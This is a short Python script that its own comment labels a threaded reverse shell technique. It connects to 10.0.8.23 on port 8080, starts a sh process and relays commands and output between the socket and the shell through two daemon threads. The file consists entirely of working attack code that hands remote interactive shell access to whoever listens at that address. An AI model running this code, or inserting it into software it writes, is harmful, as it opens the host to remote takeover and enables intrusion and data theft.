# technique: threaded reverse shell that pumps socket<->process pipes in two daemon threads
import socket, subprocess, threading

def pump_in(sock, proc):
    while True:
        buf = sock.recv(1024)
        if not buf:
            break
        proc.stdin.write(buf)
        proc.stdin.flush()

def pump_out(sock, proc):
    while True:
        b = proc.stdout.read(1)
        if not b:
            break
        sock.send(b)

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.8.23", 8080))
p = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
t1 = threading.Thread(target=pump_in, args=(s, p), daemon=True)
t2 = threading.Thread(target=pump_out, args=(s, p), daemon=True)
t1.start(); t2.start()
p.wait()
